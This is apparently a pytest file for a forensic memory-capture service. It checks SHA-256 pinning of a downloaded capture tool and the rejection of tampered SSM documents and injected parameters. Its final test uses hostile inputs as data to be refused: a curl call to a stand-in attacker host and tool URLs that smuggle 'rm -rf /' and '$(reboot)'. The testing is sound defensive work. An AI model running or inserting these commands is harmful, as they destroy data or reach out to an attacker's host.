"""The local AWS's memory stand-in runs the project's memory document's own script: the tool it fetches runs
only if it hashes to the pinned SHA-256, and the image it reports is the instance's known memory image."""

from __future__ import annotations

import hashlib
import http.server
import json
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

from service.custody import memory_capture
from tests.support.http import serve_in_background
from tests.support.root import require_root
from tools.local_aws import memory_source
from tools.local_aws.ssm_agent import check_parameters

STANDIN = Path(memory_source.__file__).with_name("avml_standin.sh")


@pytest.fixture
def served(tmp_path: Path) -> Iterator[str]:
    """The stand-in tool over plain HTTP on loopback (what the presigned GET points at, minus TLS)."""
    folder = tmp_path / "served"
    folder.mkdir()
    (folder / "avml").write_bytes(STANDIN.read_bytes())
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    serve_in_background(server)
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/avml"
    finally:
        server.shutdown()


def _capture(folder: Path, url: str, pinned: str) -> memory_source.Outcome:
    content = memory_capture.document_content()
    parameters = {"action": "capture", "captureId": "ev-0123456789ab", "toolUrl": url, "toolSha256": pinned}
    return memory_source.run("i-0abc1234def567890", folder, content, parameters)


def test_the_pinned_tool_captures_the_known_image(tmp_path: Path, served: str) -> None:
    require_root()
    outcome = _capture(tmp_path / "instance", served, hashlib.sha256(STANDIN.read_bytes()).hexdigest())
    assert outcome.status == "Success", outcome.stderr
    (line,) = [json.loads(x) for x in outcome.stdout.splitlines() if x.startswith("{")]
    expected = hashlib.sha256(memory_source.known_image("i-0abc1234def567890")).hexdigest()
    assert line["ok"] is True and line["sha256"] == expected
    assert line["size_bytes"] == memory_source.KNOWN_IMAGE_BYTES
    image = tmp_path / "instance" / "var-tmp" / "forensics-memory" / "ev-0123456789ab.lime"
    assert hashlib.sha256(image.read_bytes()).hexdigest() == expected
    assert not image.with_suffix(".avml").exists()  # the tool is removed once it ran


def test_a_tool_that_does_not_hash_to_the_pinned_sha256_never_runs(tmp_path: Path, served: str) -> None:
    require_root()
    outcome = _capture(tmp_path / "instance", served, "0" * 64)
    assert outcome.status == "Failed"
    assert f"the capture tool hashes to {hashlib.sha256(STANDIN.read_bytes()).hexdigest()}" in outcome.stderr
    assert "not run" in outcome.stderr
    assert list((tmp_path / "instance" / "var-tmp" / "forensics-memory").iterdir()) == []


def test_only_the_projects_document_runs_and_its_parameters_admit_no_quote() -> None:
    content = memory_capture.document_content()
    assert memory_source.is_memory_document(content)
    altered = json.loads(content)
    altered["mainSteps"][0]["inputs"]["runCommand"].append("curl http://attacker.example/")
    assert not memory_source.is_memory_document(json.dumps(altered))
    url = "https://bucket.s3.amazonaws.com/tools/memory/x?X-Amz-Signature=ab%2Fc&X-Amz-Expires=900"
    assert (
        check_parameters(content, {"action": "capture", "captureId": "ev-0123456789ab", "toolUrl": url})
        is None
    )
    for bad in ("https://x/'; rm -rf / #", "https://x/$(reboot)", "http://plain.example/"):
        refusal = check_parameters(
            content, {"action": "capture", "captureId": "ev-0123456789ab", "toolUrl": bad}
        )
        assert refusal is not None, bad
